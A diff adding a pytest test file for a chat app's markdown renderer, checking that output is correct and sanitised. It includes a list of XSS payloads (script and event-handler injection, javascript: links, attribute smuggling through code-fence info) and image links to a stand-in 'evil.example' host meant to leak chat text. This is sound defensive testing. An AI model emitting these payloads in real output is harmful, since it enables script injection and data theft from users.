@@ -1,0 +1,87 @@
+"""Markdown of models as HTML: what is kept, and what can do no harm."""
+
+import time
+from html.parser import HTMLParser
+
+import pytest
+
+from chat.markdown import ATTRIBUTES, CODE_CLASSES, LANGUAGE_CLASS, TAGS, render
+
+
+@pytest.mark.parametrize(
+    ("text", "html"),
+    [
+        ("**a** *b* ~~c~~ `d`", "<p><strong>a</strong> <em>b</em> <s>c</s> <code>d</code></p>\n"),
+        ("one\ntwo", "<p>one<br>\ntwo</p>\n"),
+        ("3. c\n4. d", '<ol start="3">\n<li>c</li>\n<li>d</li>\n</ol>\n'),
+        ("> q", "<blockquote>\n<p>q</p>\n</blockquote>\n"),
+        (
+            "[x](https://a.b/?q=1)",
+            '<p><a href="https://a.b/?q=1" target="_blank" rel="noopener noreferrer nofollow">x</a></p>\n',
+        ),
+    ],
+)
+def test_markdown_becomes_html(text, html):
+    assert render(text) == html
+
+
+def test_table_cells_keep_their_alignment_without_styles():
+    html = render("|a|b|\n|-|-:|\n|1|2|")
+    assert '<td align="right">2</td>' in html
+    assert "style" not in html
+
+
+def test_known_languages_are_coloured_by_classes_and_unknown_ones_stay_plain():
+    assert '<code class="language-python"><span class="k">def</span>' in render("```python\ndef f(): pass\n```")
+    assert '<pre><code class="language-nolanguage">a &lt; b\n</code></pre>' in render("```nolanguage\na < b\n```")
+
+
+HARMFUL = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "![x](https://evil.example/steal?words)",
+    "![x][r]\n\n[r]: https://evil.example/x.png",
+    "[x](javascript:alert(1))",
+    "[x](data:text/html,<script>alert(1)</script>)",
+    "[x](vbscript:x)",
+    "<javascript:alert(1)>",
+    '[x](https://a.b "onmouseover=alert(1)")',
+    '```"onmouseover=alert(1)\nx\n```',
+    "```python\" onclick=\"alert(1)\nx = '<img src=x onerror=alert(1)>'\n```",
+    "<a href='https://a.b' style='position:fixed'>x</a>",
+    "<style>*{display:none}</style>",
+    "<iframe src=//evil.example></iframe>",
+]
+
+
+@pytest.mark.parametrize("text", HARMFUL)
+def test_nothing_harmful_comes_through(text):
+    """What is left of it is text: no tag, attribute or address but the listed ones."""
+    for tag, attributes in found_in(render(text)):
+        assert tag in TAGS
+        for name, value in attributes:
+            assert name in ATTRIBUTES.get(tag, set()) | {"target", "rel"}
+            assert name != "href" or value.startswith(("https://", "http://", "mailto:"))
+            assert name != "class" or value in CODE_CLASSES or LANGUAGE_CLASS.fullmatch(value)
+
+
+def found_in(html):
+    tags = []
+    parser = HTMLParser()
+    parser.handle_starttag = lambda tag, attributes: tags.append((tag, attributes))
+    parser.feed(html)
+    return tags
+
+
+def test_pathological_text_takes_no_time():
+    began = time.monotonic()
+    for text in (
+        "[" * 20_000,
+        "*a " * 20_000,
+        "> " * 5_000 + "x",
+        "`" * 20_001,
+        "|a" * 5_000,
+        "```python\n" + "(" * 60_000,
+    ):
+        render(text)
+    assert time.monotonic() - began < 5
